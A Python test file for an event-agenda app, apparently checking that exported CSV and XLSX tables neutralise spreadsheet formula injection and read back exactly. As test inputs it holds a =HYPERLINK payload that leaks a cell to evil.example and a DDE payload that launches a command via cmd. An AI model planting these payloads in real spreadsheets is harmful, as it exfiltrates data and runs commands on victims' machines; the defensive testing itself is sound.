"""Tables we write are data, never formulas, and the plan's table still imports back exactly."""

from __future__ import annotations

import csv
import dataclasses
import io
import tempfile
import unicodedata
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from runofshow.core.event import Event, Person, SpeakerSlot
from runofshow.files.agenda_export import export_table
from runofshow.files.agenda_import import ImportOptions, import_agenda
from runofshow.files.agenda_table import read_table
from runofshow.files.agenda_zones import zone_in
from runofshow.files.eventfile import load_event
from runofshow.files.resources import bundled_example
from runofshow.files.spreadsheet_text import FORMULA_STARTS, csv_text, from_csv_text

NOW = datetime(2026, 12, 1, tzinfo=UTC)
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click for the agenda")'


@given(st.text())
@example("'")
@example("''=x")
@example("-5")
@example("-")
@example("'Tis the season")
def test_csv_text_reads_back_as_written_and_never_starts_a_formula(text: str) -> None:
    written = csv_text(text)
    assert from_csv_text(written) == text
    number = written.lstrip("-").replace(".", "", 1).isdigit() and written.isascii()
    assert not written.startswith(FORMULA_STARTS) or number


def roundtable() -> Event:
    return load_event(bundled_example(), now=NOW).event


def with_texts(event: Event, *, title: str, segment_title: str, notes: str, name: str) -> Event:
    """The roundtable with a hostile or awkward title, segment title, notes and speaker name."""
    person = Person("guest", name, role="", organization="")
    first = event.segments[0]
    slot = SpeakerSlot.for_person(person, "guest", None)
    segment = dataclasses.replace(first, title=segment_title, notes=notes, speakers=(slot,), moderator=None)
    return dataclasses.replace(
        event,
        info=dataclasses.replace(event.info, title=title),
        segments=(segment, *event.segments[1:]),
        people={"guest": person},
    )


def cells_of_csv(path: Path) -> list[str]:
    text = path.read_text(encoding="utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_an_exported_csv_holds_no_formula(tmp_path: Path) -> None:
    event = with_texts(roundtable(), title=HOSTILE, segment_title="+1+cmd|' /C calc'!A0", notes="- bring the flags",
                       name="@SUM")  # fmt: skip
    path = tmp_path / "plan.csv"
    export_table(event, path)
    cells = cells_of_csv(path)
    assert "'" + HOSTILE in cells and "'+1+cmd|' /C calc'!A0" in cells
    assert "'- bring the flags" in cells and "'@SUM" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def test_an_exported_xlsx_holds_text_cells_only(tmp_path: Path) -> None:
    event = with_texts(roundtable(), title=HOSTILE, segment_title="=1+1", notes="#N/A", name="=cmd")
    path = tmp_path / "plan.xlsx"
    export_table(event, path)
    with zipfile.ZipFile(path) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and 't="e"' not in sheet  # no formula, no error cell
    values = [cell.value for row in openpyxl.load_workbook(path).active.iter_rows() for cell in row]
    assert HOSTILE in values and "=1+1" in values and "#N/A" in values


AWKWARD_START = st.sampled_from(["", "=", "+", "-", "@", "'", "''", "'=", "-5", "--", "=-", "'-"])
# Text the agenda format can carry in one cell (no `;` or line breaks: they separate speakers);
# the table's own limits (no leading or trailing spaces: cells are trimmed) are the importer's.
BODY = st.text(st.characters(codec="utf-8", categories=["L", "N", "P", "S", "Zs"], exclude_characters=";,()\n\r"),
               max_size=20)  # fmt: skip


def awkward(start: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    # Imported text is composed (NFC), so a plan's text is what reads back the same: U+F900 comes
    # back as U+8C48, the same character to Unicode.
    composed = st.builds(lambda a, b: unicodedata.normalize("NFC", a + b).strip(), start, BODY)
    return composed.filter(lambda t: t and t == t.strip() and unicodedata.is_normalized("NFC", t))


def event_title() -> st.SearchStrategy[str]:
    # Above the header a text with digits may be the event's date or times (`14:00–14:45`), and
    # one naming a zone (`America/Denver`, `UTC`) the event's zone: the importer's rules.
    starts = st.sampled_from(["=", "+", "@", "'", "''=", "'+", ""])
    return awkward(starts).filter(lambda t: not any(c.isdigit() for c in t) and zone_in(t, labelled=False) is None)


def name_text() -> st.SearchStrategy[str]:
    # A speaker's name loses the bullets the importer strips from a list (`- Lan`, `• Lan`): the
    # importer's rule for organisers' lists, not the export's.
    bullets = ("-", "•", "–", "·")
    return awkward(AWKWARD_START).filter(lambda t: not t.startswith(bullets) and not t.endswith(bullets))


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    title=event_title(),
    segment_title=awkward(AWKWARD_START),
    notes=awkward(AWKWARD_START),
    name=name_text(),
)
@example(title="=HYPERLINK", segment_title="-5m", notes="-", name="'=x")
@example(title="'Tis", segment_title="-", notes="''", name="@x")
def test_export_then_import_reads_awkward_texts_back_as_written(
    suffix: str, title: str, segment_title: str, notes: str, name: str
) -> None:
    event = with_texts(roundtable(), title=title, segment_title=segment_title, notes=notes, name=name)
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / f"plan{suffix}"
        export_table(event, path)
        again = import_agenda(read_table(path), ImportOptions(), now=NOW).event
    assert again.info.title == title
    first = again.segments[0]
    assert (first.title, first.notes, [s.name for s in first.speakers]) == (segment_title, notes, [name])
    assert [s.title for s in again.segments[1:]] == [s.title for s in event.segments[1:]]
